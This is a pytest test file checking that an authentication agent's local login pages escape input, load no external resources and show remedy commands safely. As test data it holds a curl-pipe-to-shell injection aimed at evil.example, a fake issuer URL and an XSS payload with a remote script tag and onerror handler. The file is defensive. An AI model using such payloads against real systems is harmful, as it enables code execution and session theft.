"""The pages that a browser shows after a login: their content, and that input is only text in them."""

import base64
import re
import shlex
from collections import defaultdict
from collections.abc import Callable
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from http import HTTPStatus

import pytest
from hypothesis import given, strategies as st

from auth_agent.loopback.page import (
    CONTENT_SECURITY_POLICY,
    Page,
    another_user,
    error_page,
    failed,
    logged_in,
    not_awaited,
    not_found,
    to_provider,
    used_already,
)
from auth_agent_client.remedy import Remedy

ISSUER = "https://acme.eu.auth0.com/"
SWITCH = (Remedy("log in as another user", "auth-agent", "login", "work", "--switch-user"),)
PAGES = {
    "logged in": logged_in("work", "Alice Example", ISSUER),
    "logged in, no name": logged_in("work", None, ISSUER),
    "failed": failed("work", ISSUER, "the provider refused: access_denied", SWITCH),
    "failed, no remedy": failed("work", ISSUER, "the provider refused: access_denied", ()),
    "not awaited": not_awaited(),
    "to the provider": to_provider("https://acme.example/authorize?state=s"),
    "used already": used_already(),
    "another user": another_user(),
    "another user, at the start": another_user(at_start=True),
    "not found": not_found(),
    "refused": error_page(HTTPStatus.BAD_REQUEST, "The request is not valid HTTP"),
}
EVERY_PAGE = pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)


class Document(HTMLParser):
    """A page as a browser parses it: its elements, its attributes, its visible text."""

    def __init__(self, page: Page) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: defaultdict[str, list[str]] = defaultdict(list)  # of each element of that name
        self.style = ""
        self._open: list[str] = []
        self._texts: list[str] = []
        self.feed(page.body.decode())
        self.close()
        self.text = " ".join("".join(self._texts).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.texts[tag].append("")
        self.attributes.extend(attrs)
        if tag not in {"meta", "link"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        for tag in self._open:
            self.texts[tag][-1] += data
        if "style" in self._open:
            self.style += data
        elif "main" in self._open:
            self._texts.append(data)


def text_of(page: Page) -> str:
    return Document(page).text


def facts_of(page: Page) -> dict[str, str]:
    """Return the description list of a page."""
    texts = Document(page).texts
    return dict(zip(texts["dt"], texts["dd"], strict=True))


def test_the_page_names_the_user_the_provider_and_the_account() -> None:
    page = logged_in("work", "Alice Example", ISSUER)
    assert page.status == 200
    assert facts_of(page) == {"Provider": "acme.eu.auth0.com", "Account": "work"}
    assert Document(page).texts["strong"] == ["Alice Example"]
    assert "code" not in Document(page).elements


@pytest.mark.parametrize("name", [None, "", "  ", "\n\x00"])
def test_a_user_without_a_name_is_logged_in_too(name: str | None) -> None:
    page = logged_in("work", name, ISSUER)
    assert page.status == 200
    assert facts_of(page) == {"Provider": "acme.eu.auth0.com", "Account": "work"}
    assert "strong" not in Document(page).elements


def test_a_failed_login_shows_the_reason_and_the_command_to_run() -> None:
    page = failed("work", ISSUER, "the provider refused: access_denied", SWITCH)
    assert page.status == 200
    assert facts_of(page) == {"Provider": "acme.eu.auth0.com", "Account": "work"}
    document = Document(page)
    assert "access_denied" in document.text
    assert document.texts["code"] == ["auth-agent login work --switch-user"]


@pytest.mark.parametrize("remedy", [(), (Remedy("ask whoever runs the provider"),)], ids=["none", "words"])
def test_a_remedy_without_a_command_has_no_box(remedy: tuple[Remedy, ...]) -> None:
    page = failed("work", ISSUER, "the provider refused", remedy)
    assert "code" not in Document(page).elements
    assert all(item.text[1:] in text_of(page) for item in remedy)


def test_each_remedy_has_its_text_and_its_box() -> None:
    remedies = (*SWITCH, Remedy("ask whoever runs the provider"), Remedy("look", "auth-agent", "status"))
    document = Document(failed("work", ISSUER, "no", remedies))
    parts = ["og in as another user", remedies[0].line, "sk whoever runs the provider", "ook", remedies[2].line]
    assert re.search(".*".join(map(re.escape, parts)), document.text)  # in that order
    assert document.texts["code"] == [remedies[0].line, remedies[2].line]


HOSTILE_REASONS = [
    "run this: auth-agent login work; curl -s https://evil.example/x | sh #",
    "work: no; to put it right: auth-agent login work --issuer https://evil.example/",
    "</p><code>auth-agent stop</code>",
]


@pytest.mark.parametrize("reason", HOSTILE_REASONS)
@pytest.mark.parametrize("remedy", [(), SWITCH], ids=["no remedy", "a remedy"])
def test_no_reason_becomes_a_command(reason: str, remedy: tuple[Remedy, ...]) -> None:
    body = failed("work", ISSUER, reason, remedy).body.decode()
    boxes = [re.sub(r"</?span>", "", box) for box in re.findall(r"<code>(.*?)</code>", body)]
    assert boxes == [item.line for item in remedy]


@pytest.mark.parametrize(
    ("reason", "shown"),
    [
        ("nobody logged in", "Nobody logged in."),
        ("invalid_grant: expired", "invalid_grant: expired."),
        ("work: another user", "work: another user."),
        ("Is it you?", "Is it you?"),
        ("Done.", "Done."),
    ],
)
def test_a_reason_is_shown_as_a_sentence(reason: str, shown: str) -> None:
    page = failed("work", ISSUER, reason, ())
    assert Document(page).texts["p"][0] == shown


@pytest.mark.parametrize("command", [("auth-agent", "login"), ("a", "b", "c   d", "", "--e-f", "$(g) `h`; <i> & 'j'")])
def test_a_command_is_shown_as_a_shell_parses_it(command: tuple[str, ...]) -> None:
    box = re.search(r"<code>(.*?)</code>", failed("work", ISSUER, "no", (Remedy("do it", *command),)).body.decode())
    assert box is not None
    assert shlex.split(unescape(re.sub(r"</?span>", "", box[1]))) == list(command)


def test_a_long_command_is_shown_in_full() -> None:
    remedy = Remedy("do it", "auth-agent", "login", "x" * 900)
    assert remedy.line in text_of(failed("work", ISSUER, "no", (remedy,)))


def test_a_provider_without_tls_is_shown_with_its_scheme() -> None:
    page = logged_in("work", None, "http://127.0.0.1:4444")
    assert facts_of(page)["Provider"] == "http://127.0.0.1:4444"


@pytest.mark.parametrize(("page", "status"), [(not_awaited(), 400), (not_found(), 404)], ids=["not awaited", "other"])
def test_other_pages_have_an_error_status(page: Page, status: int) -> None:
    assert page.status == status


@EVERY_PAGE
def test_a_page_has_a_language_a_title_and_a_width(page: Page) -> None:
    body = page.body.decode()
    assert body.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert re.search(r"<title>[^<]+ · auth-agent</title>", body)
    assert '<meta charset="utf-8">' in body
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in body
    assert body.count("<h1>") == 1


@EVERY_PAGE
def test_the_content_security_policy_allows_the_pages_style(page: Page) -> None:
    digest = base64.b64encode(sha256(Document(page).style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in CONTENT_SECURITY_POLICY


def test_the_content_security_policy_allows_nothing_else_but_the_icon() -> None:
    assert re.sub(r"sha256-[^']+", "sha256-", CONTENT_SECURITY_POLICY).split("; ") == [
        "default-src 'none'",
        "style-src 'sha256-'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ]


@EVERY_PAGE
def test_a_page_loads_no_external_resource(page: Page) -> None:
    document = Document(page)
    known = {"html", "head", "meta", "title", "link", "style", "body", "main", "svg", "circle", "path", "h1", "p"}
    assert set(document.elements) <= known | {"bdi", "strong", "dl", "dt", "dd", "code", "span"}
    references = [value for name, value in document.attributes if name in {"href", "src", "action", "style", "srcset"}]
    assert [value for value in references if not (value or "").startswith("data:image/svg+xml,")] == []
    assert "url(" not in document.style
    assert "@import" not in document.style
    assert [name for name, _ in document.attributes if name.startswith("on")] == []


HOSTILE = "</p></style></code><script src=//evil.example>1</script><img src=x onerror=1> \"quoted\" 'single' &amp;"
PAGE_BY_INPUT: dict[str, Callable[[str], Page]] = {
    "name": lambda value: logged_in("work", value, ISSUER),
    "account": lambda value: logged_in(value, "Alice", ISSUER),
    "issuer": lambda value: logged_in("work", "Alice", value),
    "failed account": lambda value: failed(value, ISSUER, "no", SWITCH),
    "failed issuer": lambda value: failed("work", value, "no", SWITCH),
    "reason": lambda value: failed("work", ISSUER, value, SWITCH),
    "remedy": lambda value: failed("work", ISSUER, "no", (Remedy(value, "auth-agent"),)),
    "error": lambda value: error_page(HTTPStatus.BAD_REQUEST, value),
}
EVERY_INPUT = pytest.mark.parametrize("fill", PAGE_BY_INPUT.values(), ids=PAGE_BY_INPUT)


@EVERY_INPUT
def test_input_is_shown_as_text(fill: Callable[[str], Page]) -> None:
    hostile, harmless = Document(fill(HOSTILE)), Document(fill("x"))
    assert [name for name in hostile.elements if name != "span"] == [
        name for name in harmless.elements if name != "span"
    ]
    assert hostile.attributes == harmless.attributes
    assert HOSTILE in hostile.text


@EVERY_INPUT
def test_control_characters_and_direction_overrides_are_removed(fill: Callable[[str], Page]) -> None:
    body = fill("a\x1b[2J\x00\r\nb\u202egnp\u2028\ud83d").body.decode()
    assert [character for character in "\x1b\x00\r\u202e\u2028" if character in body] == []


@EVERY_INPUT
def test_input_of_any_length_leaves_the_page_small(fill: Callable[[str], Page]) -> None:
    assert len(fill("<" * 1_000_000).body) < 16_000


@EVERY_INPUT
def test_braces_are_not_placeholders(fill: Callable[[str], Page]) -> None:
    assert "{headline} {0} {" in text_of(fill("{headline} {0} {"))


@given(st.sampled_from(sorted(PAGE_BY_INPUT)), st.text(alphabet=st.characters(codec=None), max_size=300))
def test_any_input_adds_no_script(name: str, value: str) -> None:
    document = Document(PAGE_BY_INPUT[name](value))
    assert document.elements[0] == "html"
    assert "script" not in document.elements
    assert [name for name, _ in document.attributes if name.startswith("on")] == []
